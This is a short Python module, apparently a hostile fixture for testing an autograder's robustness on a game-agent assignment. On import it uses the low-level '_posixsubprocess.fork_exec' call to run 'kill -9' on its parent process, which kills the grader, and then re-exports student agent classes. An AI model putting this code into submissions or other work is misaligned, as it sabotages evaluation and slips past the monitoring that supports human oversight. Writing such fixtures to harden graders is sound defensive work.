"""Hostile: kills the grader at import time with a forked ``kill -9`` (started with
``_posixsubprocess.fork_exec``, below the ``subprocess`` module)."""

import os

try:
    import _posixsubprocess

    _kill = "/bin/kill" if os.path.exists("/bin/kill") else "/usr/bin/kill"
    _read, _write = os.pipe()
    _posixsubprocess.fork_exec(
        [_kill, "-9", str(os.getppid())], [os.fsencode(_kill)], True, (), None, None,
        -1, -1, -1, -1, -1, -1, _read, _write, True, True, -1, None, None, None, -1, None, False)
except Exception:
    pass

from _native_student import (AlphaBetaAgent, ExpectimaxAgent, MinimaxAgent,  # noqa: E402,F401
                             ReflexAgent, better_evaluation)
